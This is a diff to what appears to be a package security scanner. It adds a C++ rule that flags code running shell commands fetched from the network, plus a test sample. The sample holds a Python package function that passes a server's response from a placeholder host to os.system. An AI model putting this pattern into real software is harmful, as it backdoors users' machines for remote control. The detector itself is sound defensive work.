@@ -1,3 +1,6 @@
+#include <algorithm>
+
+#include "base/text.h"
 #include "rules/conditions.h"
 #include "rules/rule.h"
 
@@ -15,15 +18,27 @@ Severity severity_of(const Destination& origin, const Action& action) {
   return is_fixed && !action.through_shell ? Severity::medium : Severity::low;
 }
 
+// A command line of which nothing is known but that it came over the network: whoever sends it has
+// the machine. What was downloaded to a file is another rule's business.
+bool obeys(const Action& action) {
+  return action.act == Act::run_shell && trim(action.target) == hole && !action.through_shell &&
+         !action.target_from.has(Source::local_file);
+}
+
 void check(const Facts& facts, Findings& findings) {
   const Origins origins(facts);
   for (const Action& action : facts.actions) {
     const bool runs = action.act == Act::run_code || action.act == Act::load_module ||
                       action.act == Act::load_native;
-    if (!runs || !is_shipped(action)) continue;
+    const bool is_command = obeys(action);
+    if ((!runs && !is_command) || !is_shipped(action)) continue;
     if (!action.target_from.any(foreign)) continue;
-    findings.add(severity_of(origins.near(action), action), action.where,
-                 sentence("runs code that came from the network", action), action.steps);
+    const Severity severity = severity_of(origins.near(action), action);
+    findings.add(is_command ? std::max(severity, Severity::high) : severity, action.where,
+                 sentence(is_command ? "runs commands that come from the network"
+                                     : "runs code that came from the network",
+                          action),
+                 action.steps);
   }
 }
 
@@ -84,6 +99,21 @@ import json
 import urllib.request
 def fetch(url):
     return json.loads(urllib.request.urlopen(url).read())
+)"},
+    {.name = "a function runs the commands that a server sends",
+     .expect = "widget/__init__.py:4",
+     .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: widget
+Version: 1.0.0
+==> setup.py
+from setuptools import setup
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
+import os
+import requests
+def work():
+    os.system(requests.get("https://orders.example.test/next").text)
 )"},
 };
 extern const std::span<const Sample> runs_remote_code_samples = samples;
